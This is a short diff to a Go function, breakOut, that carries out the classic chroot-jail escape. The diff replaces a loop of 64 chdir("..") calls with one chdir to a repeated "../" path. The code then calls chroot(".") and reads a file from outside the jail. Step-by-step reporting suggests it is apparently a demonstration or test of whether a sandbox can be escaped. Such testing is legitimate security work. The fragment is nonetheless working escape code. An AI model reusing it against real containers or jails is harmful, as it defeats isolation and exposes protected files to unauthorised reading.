@@ -62,13 +62,8 @@ func breakOut(out io.Writer, file string, half bool) {
 		}
 		unix.Rmdir(name) // it stays our root without having a name
 	}
-	var err error
-	for range 64 {
-		if err = unix.Chdir(".."); err != nil {
-			break
-		}
-	}
-	if !say(`chdir("..") 64 times`, err) || !say(`chroot(".")`, unix.Chroot(".")) {
+	// As often as any path is deep: at the top ".." is the top.
+	if !say(`chdir("../../../..…")`, unix.Chdir(strings.Repeat("../", 64))) || !say(`chroot(".")`, unix.Chroot(".")) {
 		return
 	}
 	data, err := os.ReadFile(file)
